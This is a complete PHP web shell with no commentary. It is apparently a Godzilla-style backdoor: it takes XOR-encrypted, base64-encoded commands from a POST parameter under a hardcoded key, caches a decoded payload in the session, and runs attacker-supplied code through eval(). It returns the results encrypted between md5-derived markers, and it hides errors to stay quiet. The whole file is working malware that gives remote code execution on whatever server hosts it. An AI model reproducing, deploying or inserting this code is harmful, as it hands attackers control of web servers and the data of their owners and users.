<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function etRXUo($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $c = $K[$i+1&15];
        $D[$i] = $D[$i]^$c;
    }
    return $D;
}
$Anei='z520m';
$FqsdM='payload';
$IlM='c0bc929671fccee5';
if (isset($_POST[$Anei])){
    $data=etRXUo(base64_decode($_POST[$Anei]),$IlM);
    if (isset($_SESSION[$FqsdM])){
        $payload=etRXUo($_SESSION[$FqsdM],$IlM);
        if (strpos($payload,"getBasicsInfo")===false){
            $payload=etRXUo($payload,$IlM);
        }
        eval($payload);
        echo substr(md5($Anei.$IlM),0,16);
        echo base64_encode(etRXUo(@run($data),$IlM));
        echo substr(md5($Anei.$IlM),16);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$FqsdM]=etRXUo($data,$IlM);
        }
    }
}
